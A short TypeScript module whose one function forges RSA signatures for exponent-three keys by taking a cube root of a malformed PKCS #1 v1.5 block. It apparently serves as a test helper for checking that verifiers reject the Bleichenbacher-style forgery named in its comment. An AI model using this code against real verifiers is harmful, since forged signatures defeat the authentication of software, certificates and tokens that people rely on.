import { createHash, type KeyObject } from 'node:crypto'

/**
 * A signature for a key with the exponent three, made without the private key: the cube root of a block that
 * begins as PKCS #1 v1.5 has it. A verifier that does not look at the junk, behind a padding that is too short or
 * among the digest's parameters, believes it (CVE-2006-4339 and its many returns).
 */
export function forgedForCube(
  key: KeyObject,
  { message, junk }: { readonly message: Uint8Array; readonly junk: 'behind' | 'inside' },
): Uint8Array {
  const bytes = (key.asymmetricKeyDetails?.modulusLength ?? 2_048) / 8
  const digest = createHash('sha256').update(message).digest()
  const algorithm = Buffer.from('300d06096086480165030402010500', 'hex')
  const info = Buffer.concat([
    Buffer.from('3031', 'hex'),
    algorithm,
    Buffer.from('0420', 'hex'),
    digest,
  ])
  const padding = Buffer.from(junk === 'behind' ? '0001ffffffffffffffff00' : '0001ff00', 'hex')
  const prefix = Buffer.concat([padding, info])
  const block = Buffer.concat([prefix, Buffer.alloc(bytes - prefix.length, 0xff)])
  const root = cubeRoot(BigInt(`0x${block.toString('hex')}`))
  return Buffer.from(root.toString(16).padStart(bytes * 2, '0'), 'hex')
}

/** The greatest whole number whose cube is not above. */
function cubeRoot(value: bigint): bigint {
  let [low, high] = [0n, 1n << 700n]
  while (low < high) {
    const middle = (low + high + 1n) / 2n
    if (middle ** 3n <= value) low = middle
    else high = middle - 1n
  }
  return low
}
